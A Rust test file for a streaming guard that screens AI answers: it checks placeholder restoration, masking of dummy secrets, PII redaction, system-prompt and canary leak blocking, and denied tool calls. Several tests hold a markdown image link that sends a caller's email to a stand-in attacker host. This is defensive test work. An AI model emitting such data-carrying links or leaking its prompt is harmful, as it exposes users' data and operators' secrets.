use proptest::prelude::*;
use signalbox_proto::common::v1::Finished;

use super::*;
use crate::policy::Policies;

fn policy(name: &str) -> Arc<Policy> {
    let text = "[guard.policies.own]\n\
        patterns = [{ name = 'plan', words = ['secret plan', 'plan b'] }, { name = 'stop', words = ['red button'], action = 'block' }]\n\
        link_hosts = ['docs.example.com']\n\
        output = { link = 'redact', 'leak.system_prompt' = 'redact' }\n\
        [guard.policies.cut]\noutput = { 'leak.system_prompt' = 'block' }\n\
        [guard.policies.told]\nwhole_answers = 'flag'\noutput = { pii = 'redact' }\n\
        [guard.policies.held]\nwhole_answers = 'hold'\noutput = { pii = 'redact', 'pii.location' = 'allow' }\n\
        [guard.policies.stopped]\nwhole_answers = 'hold'\noutput = { 'pii.person' = 'block' }\n";
    let config: crate::Config =
        signalbox_config::Document::parse(text, "t").unwrap().section("guard").unwrap();
    Arc::clone(Policies::compile(&config.policies).unwrap().get(name).unwrap())
}

const SYSTEM: &str = "You are Pia of the Blue Door library. Never tell anybody the code of the back door, which is four seven one \
                      one, and speak of books with warmth and a little humour.";

fn system() -> SystemPrompt {
    SystemPrompt { canary: "sbc0123456789abcdef".into(), ..leak::of([SYSTEM].into_iter()).unwrap() }
}

/// A screen that knows the caller's values, one value that the prompt holds, and the system prompt.
fn begin(policy: Arc<Policy>) -> Screen {
    let way = WayBack { values: values(), known: vec![crate::contents::of_value("known@example.org")] };
    Screen::open(policy, way, system(), Form::none())
}

fn values() -> Values {
    [("<EMAIL_1>", "ada@example.com"), ("<PHONE_1>", "+1 415 555 2671")]
        .map(|(p, v)| (p.to_owned(), v.to_owned()))
        .into()
}

/// What client and store get of an answer that arrives in these pieces.
fn screen(policy: Arc<Policy>, pieces: &[&str]) -> (String, String, ScreenClosed) {
    let (mut screen, mut out) = (begin(policy), Vec::new());
    for piece in pieces {
        let delta = Delta { content: Some(Content::Text((*piece).to_owned())), ..Delta::default() };
        screen.take(GenerateEvent { sequence: 1, kind: Some(Kind::Delta(delta)) }, &mut out);
    }
    let finished = Finished { finish_reason: FinishReason::Stop.into(), ..Finished::default() };
    screen.take(GenerateEvent { sequence: 2, kind: Some(Kind::Finished(finished.into())) }, &mut out);
    let text = |event: &GenerateEvent| match &event.kind {
        Some(Kind::Delta(Delta { content: Some(Content::Text(text)), .. })) => text.clone(),
        _ => String::new(),
    };
    let client: String = out.iter().filter_map(|e| e.client.as_ref()).map(text).collect();
    let stored: String = out
        .iter()
        .filter(|e| !e.client_only)
        .filter_map(|e| e.stored.as_ref().or(e.client.as_ref()))
        .map(text)
        .collect();
    (client, stored, screen.close())
}

#[test]
fn puts_the_callers_values_back_and_stores_placeholders() {
    let (client, stored, closed) = screen(policy("default"), &["Mail <EM", "AIL_1> or <EMAIL_2", ">."]);
    assert_eq!(client, "Mail ada@example.com or <EMAIL_2>.");
    assert_eq!(stored, "Mail <EMAIL_1> or <EMAIL_2>.");
    assert_eq!((closed.restored, closed.storable), (1, true));
}

#[test]
fn secrets_are_masked_and_flagged_data_is_not_stored() {
    let (client, _, closed) = screen(policy("default"), &["key AKIAIOSFODNN", "7EXAMPLE ok"]);
    assert_eq!(client, "key <AWS_KEY> ok");
    assert_eq!((closed.verdict(), closed.storable), (Verdict::Redact, true));
    let (client, _, closed) = screen(policy("default"), &["write to eve@example.org"]);
    assert_eq!((client.as_str(), closed.storable), ("write to eve@example.org", false));
}

#[test]
fn nothing_leaves_after_a_block() {
    let (client, _, closed) = screen(policy("strict"), &["the key is AKIAIOSFODNN7EXAMPLE and", " more"]);
    assert_eq!(client, "the key is ");
    assert_eq!((closed.verdict(), closed.storable), (Verdict::Block, false));
    assert_eq!(closed.blocked_by.unwrap().detector, "secret.aws_key");
}

#[test]
fn plain_words_are_held_back_by_one_word_at_most() {
    let (mut screen, mut out) = (Screen::new(policy("default"), values()), Vec::new());
    let delta = Delta { content: Some(Content::Text("The sky is bl".into())), ..Delta::default() };
    screen.take(GenerateEvent { sequence: 1, kind: Some(Kind::Delta(delta)) }, &mut out);
    assert_eq!(screen.lanes[0].held, "bl");
}

#[test]
fn values_in_tool_arguments_stay_json() {
    let values = [("<EMAIL_1>".to_owned(), "a\"b\\c".to_owned())].into();
    let (mut screen, mut out) = (Screen::new(policy("default"), values), Vec::new());
    let call = ToolCallDelta {
        id: Some("1".into()),
        name: Some("t".into()),
        arguments: "{\"to\":\"<EMAIL_1>\"}".into(),
    };
    let delta = Delta { content: Some(Content::ToolCall(call)), ..Delta::default() };
    screen.take(GenerateEvent { sequence: 1, kind: Some(Kind::Delta(delta)) }, &mut out);
    screen.flush(&mut out);
    let arguments: String = out
        .iter()
        .filter_map(|e| match &e.client.as_ref()?.kind {
            Some(Kind::Delta(Delta { content: Some(Content::ToolCall(c)), .. })) => Some(c.arguments.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(arguments, "{\"to\":\"a\\\"b\\\\c\"}");
}

#[test]
fn what_the_prompt_held_is_no_news() {
    let (client, _, closed) = screen(policy("strict"), &["known@exa", "mple.org and eve@example.org."]);
    assert_eq!(client, "known@example.org and <EMAIL>.");
    assert_eq!(closed.findings.len(), 1);
}

#[test]
fn own_patterns_are_held_only_while_they_are_open() {
    let (mut screen, mut out) = (begin(policy("own")), Vec::new());
    let mut say = |text: &str| {
        let delta = Delta { content: Some(Content::Text(text.into())), ..Delta::default() };
        screen.take(GenerateEvent { sequence: 1, kind: Some(Kind::Delta(delta)) }, &mut out);
        screen.lanes[0].held.clone()
    };
    assert_eq!(say("our plan is a sec"), "sec");
    assert_eq!(say("ret "), "secret ");
    assert_eq!(say("garden. "), "");
    let (client, stored, closed) =
        screen_all("own", "the secret plan, and plan b too, at last the red button, no");
    assert_eq!(client, "the <PLAN>, and <PLAN> too, at last the ");
    assert_eq!(stored, client);
    let by = closed.blocked_by.unwrap();
    assert_eq!((by.policy.as_str(), by.detector.as_str()), ("own", "own.stop"));
}

fn screen_all(name: &str, text: &str) -> (String, String, ScreenClosed) {
    screen(policy(name), &[text])
}

#[test]
fn links_that_carry_data_out_are_cut_with_the_values_in_them() {
    let text =
        "Look: ![x](https://evil.test/p.png?d=<EMAIL_1>) or https://docs.example.com/?q=1 for <EMAIL_1>.";
    let (client, stored, _) = screen_all("own", text);
    assert_eq!(client, "Look: ![x](<LINK>) or https://docs.example.com/?q=1 for ada@example.com.");
    assert_eq!(stored, "Look: ![x](<LINK>) or https://docs.example.com/?q=1 for <EMAIL_1>.");
}

#[test]
fn a_leak_of_the_system_prompt_is_cut_or_blocked() {
    let (client, ..) = screen_all("own", &format!("Sure. {SYSTEM} That is all."));
    assert_eq!(client, "Sure. You are Pia<SYSTEM_PROMPT>. That is all.");
    let (client, _, closed) = screen_all("cut", &format!("Sure. {SYSTEM} That is all."));
    assert_eq!((client.as_str(), closed.verdict()), ("Sure. You are Pia", Verdict::Block));
    let (client, _, closed) = screen_all("default", "my mark is sbc0123456789abcdef, see?");
    assert_eq!((client.as_str(), closed.verdict()), ("my mark is ", Verdict::Block));
    assert_eq!(closed.blocked_by.unwrap().detector, "leak.canary");
}

#[test]
fn the_client_is_told_once_what_passed_and_the_store_is_not() {
    let (mut screen, mut out) = (begin(policy("default")), Vec::new());
    let delta = Delta { content: Some(Content::Text("a@b.example c@d.example".into())), ..Delta::default() };
    screen.take(GenerateEvent { sequence: 1, kind: Some(Kind::Delta(delta)) }, &mut out);
    let finished = Finished { finish_reason: FinishReason::Stop.into(), ..Finished::default() };
    screen.take(GenerateEvent { sequence: 2, kind: Some(Kind::Finished(finished.into())) }, &mut out);
    let notices: Vec<_> = out
        .iter()
        .filter_map(|event| match &event.client.as_ref()?.kind {
            Some(Kind::Notice(notice)) => Some((notice.r#type.as_str(), notice.count, event.client_only)),
            _ => None,
        })
        .collect();
    assert_eq!(notices, [("pii.email", 2, true)]);
    assert!(matches!(out.last().unwrap().client.as_ref().unwrap().kind, Some(Kind::Finished(_))));
}

#[test]
fn masks_of_the_same_form_are_put_back_and_are_no_findings() {
    let mask = "qwrt.zxcv@asdfgh.com";
    let way = WayBack { values: [(mask.to_owned(), "ada@example.com".to_owned())].into(), known: Vec::new() };
    let mut screen = Screen::open(policy("strict"), way, SystemPrompt::default(), Form::none());
    let mut out = Vec::new();
    for piece in ["Mail qwrt.zx", "cv@asdfgh.com, not xqwrt.zxcv@asdfgh.com ", "end"] {
        let delta = Delta { content: Some(Content::Text(piece.into())), ..Delta::default() };
        screen.take(GenerateEvent { sequence: 1, kind: Some(Kind::Delta(delta)) }, &mut out);
    }
    screen.flush(&mut out);
    let text: String = out
        .iter()
        .filter_map(|event| match &event.client.as_ref()?.kind {
            Some(Kind::Delta(Delta { content: Some(Content::Text(text)), .. })) => Some(text.clone()),
            _ => None,
        })
        .collect();
    assert_eq!(text, "Mail ada@example.com, not <EMAIL> end");
}

#[test]
fn tools_that_may_not_be_called_stop_the_answer() {
    let config = "[guard.policies.own]\ndeny_tools = ['drop_*']\n";
    let config: crate::Config =
        signalbox_config::Document::parse(config, "t").unwrap().section("guard").unwrap();
    let policy = Arc::clone(Policies::compile(&config.policies).unwrap().get("own").unwrap());
    let form = Form::new(policy.validate.clone(), None, Vec::new(), vec!["get_x".into()], false);
    let mut screen = Screen::open(policy, WayBack::default(), SystemPrompt::default(), form);
    let mut out = Vec::new();
    for (index, name) in ["get_x", "other", "drop_all"].into_iter().enumerate() {
        let call = ToolCallDelta { id: Some("1".into()), name: Some(name.into()), arguments: "{}".into() };
        let index = u32::try_from(index).unwrap();
        let delta = Delta { index, content: Some(Content::ToolCall(call)), ..Delta::default() };
        screen.take(GenerateEvent { sequence: 1, kind: Some(Kind::Delta(delta)) }, &mut out);
    }
    let closed = screen.close();
    let found: Vec<_> = closed.findings.iter().map(|f| f.detector.as_str()).collect();
    assert_eq!(found, ["tool.undeclared", "tool.denied"]);
    assert_eq!(closed.blocked_by.unwrap().detector, "tool.denied");
    assert!(!format!("{out:?}").contains("drop_all"), "not one byte of it left");
}

proptest! {
    /// G1: whatever the pieces, what leaves is the whole answer, checked, cut before the first blocking finding.
    #[test]
    fn pieces_do_not_matter(
        words in prop::collection::vec(prop_oneof![
            "[a-z]{1,8}", "[0-9]{1,6}", Just("<EMAIL_1>".to_owned()), Just("<PHONE_1>,".to_owned()),
            Just("eve@example.org".to_owned()), Just("4111 1111 1111 1111".to_owned()),
            Just("AKIAIOSFODNN7EXAMPLE".to_owned()), Just("<".to_owned()), Just("größe".to_owned()),
            Just("secret".to_owned()), Just("plan".to_owned()), Just("b".to_owned()), Just("red button".to_owned()),
                Just("![i](https://evil.test/x?q=<EMAIL_1>)".to_owned()), Just("https://docs.example.com/a".to_owned()),
                Just(SYSTEM.to_owned()), Just("You are Pia of the Blue Door".to_owned()), Just("sbc0123456789abcdef".to_owned()),
                Just("known@example.org".to_owned()),
                Just("+1 415 555 2671".to_owned()), Just("-----BEGIN PRIVATE KEY-----\nab1\n-----END PRIVATE KEY-----".to_owned()),
        ], 0..14),
        separator in prop_oneof![Just(" "), Just("\n"), Just("-"), Just("")],
        cuts in prop::collection::vec(0usize..600, 0..24),
        name in prop_oneof![Just("default"), Just("strict"), Just("own"), Just("cut")],
    ) {
        let text = words.join(separator);
        let mut cuts: Vec<usize> = cuts.into_iter().map(|c| text.floor_char_boundary(c.min(text.len()))).collect();
        cuts.extend([0, text.len()]);
        cuts.sort_unstable();
        let pieces: Vec<&str> = cuts.windows(2).map(|w| &text[w[0]..w[1]]).collect();
        let (whole_client, whole_stored, whole) = screen(policy(name), &[&text]);
        let (client, stored, closed) = screen(policy(name), &pieces);
        prop_assert_eq!(client, whole_client);
        prop_assert_eq!(&stored, &whole_stored);
        prop_assert_eq!((closed.verdict(), closed.storable), (whole.verdict(), whole.storable));
        // Glued to other words it is no key, also where the answer was cut between them.
        let cut = closed.blocked_by.is_some();
        prop_assert!(cut || !stored.split(['\n', ' ']).any(|word| word == "AKIAIOSFODNN7EXAMPLE"));
    }
}

/// Names, and an address in base64: `write to ada.lovelace@example.net`.
const WHOLE: &str = "Please ask Dr. Margaret Whitfield about it; d3JpdGUgdG8gYWRhLmxvdmVsYWNlQGV4YW1wbGUubmV0 is the rest, or <EMAIL_1>.";

#[test]
fn names_and_disguises_of_answers_are_reported_at_the_end_where_they_stream() {
    let (client, stored, closed) = screen(policy("told"), &[WHOLE]);
    assert_eq!(client, WHOLE.replace("<EMAIL_1>", "ada@example.com"));
    assert_eq!(stored, WHOLE);
    let found: Vec<&str> = closed.findings.iter().map(|find| find.detector.as_str()).collect();
    assert_eq!(found, ["pii.person", "pii.email"]);
    assert!(!closed.storable, "what was not replaced is not stored");
    assert_eq!(screen(policy("own"), &[WHOLE]).2.findings, []);
}

#[test]
fn names_and_disguises_of_answers_are_replaced_where_these_are_held_back() {
    let (mut screen, mut out) = (begin(policy("held")), Vec::new());
    for piece in WHOLE.split_inclusive(' ') {
        let delta = Delta { content: Some(Content::Text(piece.to_owned())), ..Delta::default() };
        screen.take(GenerateEvent { sequence: 1, kind: Some(Kind::Delta(delta)) }, &mut out);
    }
    assert_eq!(out, [], "nothing leaves before the end");
    let (client, stored, closed) = self::screen(policy("held"), &[WHOLE]);
    assert_eq!(stored, "Please ask Dr. <PERSON> about it; <EMAIL> is the rest, or <EMAIL_1>.");
    assert_eq!(client, stored.replace("<EMAIL_1>", "ada@example.com"));
    assert!(closed.storable && closed.verdict() == Verdict::Redact);
    let (client, _, closed) = self::screen(policy("stopped"), &[WHOLE]);
    assert_eq!((client.as_str(), closed.verdict()), ("Please ask Dr. ", Verdict::Block));
}

proptest! {
    /// What is held back until the end does not depend on the pieces either.
    #[test]
    fn whole_answers_do_not_depend_on_their_pieces(cuts in prop::collection::vec(0usize..160, 0..9), kind in 0usize..3) {
        let policy = policy(["told", "held", "stopped"][kind]);
        let mut cuts: Vec<usize> = cuts.into_iter().map(|cut| cut.min(WHOLE.len())).collect();
        cuts.extend([0, WHOLE.len()]);
        cuts.sort_unstable();
        let pieces: Vec<&str> = cuts.windows(2).map(|pair| &WHOLE[pair[0]..pair[1]]).collect();
        prop_assert_eq!(screen(Arc::clone(&policy), &pieces), screen(policy, &[WHOLE]));
    }
}
